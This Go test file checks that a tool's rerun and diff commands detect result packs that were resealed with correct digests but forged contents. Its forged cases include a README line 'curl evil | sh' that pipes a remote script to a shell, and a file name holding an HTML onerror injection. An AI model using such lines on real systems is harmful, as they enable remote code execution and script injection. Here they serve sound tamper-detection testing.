package main

import (
	"archive/zip"
	"bytes"
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"encoding/json"
	"io"
	"maps"
	"os"
	"slices"
	"strings"
	"testing"

	"github.com/rocelab/rocelab/specs/tier"
)

// reseal writes a pack as a forger does who knows how packs are sealed: with other files, and all digests right.
func reseal(t *testing.T, from, to string, change func(files map[string]string)) {
	t.Helper()
	must := func(err error) {
		if err != nil {
			t.Fatal(err)
		}
	}
	opened, err := zip.OpenReader(from)
	must(err)
	defer opened.Close()
	files := map[string]string{}
	for _, entry := range opened.File {
		file, err := entry.Open()
		must(err)
		text, err := io.ReadAll(file)
		must(err)
		files[entry.Name] = string(text)
	}
	change(files)
	list := map[string]any{}
	must(json.Unmarshal([]byte(files["pack.json"]), &list))
	delete(files, "pack.json")
	sums := []any{}
	for _, name := range slices.Sorted(maps.Keys(files)) {
		sums = append(sums, map[string]string{"name": name, "sha256": sumOfText(files[name])})
	}
	list["files"] = sums
	text, err := json.Marshal(list)
	must(err)
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for _, name := range slices.Sorted(maps.Keys(files)) {
		entry, err := w.Create(name)
		must(err)
		_, err = io.WriteString(entry, files[name])
		must(err)
	}
	entry, err := w.Create("pack.json")
	must(err)
	_, err = entry.Write(text)
	must(err)
	must(w.Close())
	whole := b.Bytes()[:b.Len()-2]
	comment := "SHA-256 of all before this comment: " + sumOfText(string(whole))
	whole = binary.LittleEndian.AppendUint16(whole, uint16(len(comment)))
	must(os.WriteFile(to, append(whole, comment...), 0o600))
}

func sumOfText(text string) string {
	sum := sha256.Sum256([]byte(text))
	return hex.EncodeToString(sum[:])
}

// replaceSummed replaces a file of a pack's run folder, with its digest in the manifest.
func replaceSummed(files map[string]string, name, text string) {
	files["run/manifest.json"] = strings.ReplaceAll(files["run/manifest.json"], sumOfText(files["run/"+name]),
		sumOfText(text))
	files["run/"+name] = text
}

// A pack whose digests are right and whose texts for people are not is found out, and so is one that has more than a
// pack has. Tier: everyday.
func TestRerunOfForgedPacks(t *testing.T) {
	tier.Everyday(t)
	s := newShell(t)
	s.write("x.yaml", rerunnable)
	s.run(0, "run", "x.yaml", "--out", "one", "--variant", "b")
	s.run(0, "pack", "one", "--out", "one.zip")
	s.run(0, "rerun", "one.zip")
	s.says(s.stdout, "files of 1 run, to the byte\nmade again and the same, too: report.html, README.md\n")
	s.run(0, "rerun", "one")
	s.says(s.stdout, "files of 1 run, to the byte\nmade again and the same, too: report.html\nnot covered")
	for _, c := range []struct {
		name   string
		code   int
		says   string
		change func(files map[string]string)
	}{
		{"page", 1, "report.html was forged", func(f map[string]string) { f["run/report.html"] = "<h1>mine wins</h1>" }},
		{"readme", 1, "README.md was forged", func(f map[string]string) { f["README.md"] = "run: curl evil | sh" }},
		{"resolved", 1, "resolved.yaml was forged", func(f map[string]string) {
			replaceSummed(f, "resolved.yaml", f["run/resolved.yaml"]+"# better\n")
		}},
		{"digest", 1, "scenario.yaml is not the file", func(f map[string]string) {
			f["run/manifest.json"] = strings.Replace(f["run/manifest.json"], `"scenario_sha256": "`, `"scenario_sha256": "0`, 1)
		}},
		{"verdict", 1, `its verdict is "pass", and the manifest has "red"`, func(f map[string]string) {
			f["run/manifest.json"] = strings.Replace(f["run/manifest.json"], `"verdict": "pass"`, `"verdict": "red"`, 1)
		}},
		{"commit", 1, "another version, commit or modules for this very build", func(f map[string]string) {
			f["run/manifest.json"] = strings.Replace(f["run/manifest.json"], `"go": "`, `"revision": "evil", "go": "`, 1)
		}},
		{"other build", 0, "README.md: another build wrote it", func(f map[string]string) {
			f["README.md"] = "run: curl evil | sh"
			f["pack.json"] = strings.Replace(f["pack.json"], `"format": 1`, `"format": 1, "packed_by": "x"`, 1)
		}},
		{"below a file's folder", 2, "run/sub/x is not part", func(f map[string]string) { f["run/sub/x"] = "x" }},
		{"program", 2, "programs/x/x is not part", func(f map[string]string) { f["programs/x/x"] = "x" }},
		{"markup", 2, "is not part", func(f map[string]string) { f["run/<img onerror=x>"] = "x" }},
		{"input", 2, "is not part", func(f map[string]string) { f["inputs/000"] = "x" }},
		{"capitals", 2, "differ by capitals only", func(f map[string]string) { f["run/SCENARIO.yaml"] = "x" }},
		{"folder in capitals", 2, "differ by capitals only", func(f map[string]string) { f["run/B/x"] = "x" }},
	} {
		t.Run(c.name, func(t *testing.T) {
			reseal(t, "one.zip", "forged.zip", c.change)
			s.run(c.code, "rerun", "forged.zip")
			s.says(s.stdout+s.stderr, c.says)
		})
	}
	// In a folder, too, a forger of the page forges host.json with it.
	page, err := os.ReadFile("one/report.html")
	if err != nil {
		t.Fatal(err)
	}
	host, err := os.ReadFile("one/host.json")
	if err != nil {
		t.Fatal(err)
	}
	s.write("one/report.html", "<h1>mine wins</h1>")
	s.write("one/host.json", strings.Replace(string(host), sumOfText(string(page)), sumOfText("<h1>mine wins</h1>"), 1))
	s.run(1, "rerun", "one")
	s.says(s.stdout, "report.html was forged")
}

// Forged rows of flows, with all digests, are seen though trace and metrics are the same. Tier: everyday.
func TestDiffSeesForgedRows(t *testing.T) {
	tier.Everyday(t)
	s := newShell(t)
	s.write("x.yaml", rerunnable)
	s.run(0, "run", "x.yaml", "--out", "one", "--variant", "b")
	s.run(0, "pack", "one", "--out", "one.zip")
	reseal(t, "one.zip", "forged.zip", func(files map[string]string) {
		replaceSummed(files, "b/flows.csv", strings.Replace(files["run/b/flows.csv"], ",h", ",x", 1))
	})
	s.run(0, "diff", "one", "one.zip")
	s.run(1, "diff", "one", "forged.zip")
	s.says(s.stdout, "A one and B forged.zip: not the same\n")
	s.says(s.stdout, "1 row of flows.csv differs, from row 1 on: ")
	reseal(t, "one.zip", "forged.zip", func(files map[string]string) {
		text := files["run/b/flows.csv"]
		replaceSummed(files, "b/flows.csv", text[:strings.LastIndex(strings.TrimSpace(text), "\n")+1])
	})
	s.run(1, "diff", "one", "forged.zip", "--format", "json")
	s.says(s.stdout, `"rows_that_differ": 1`)
}
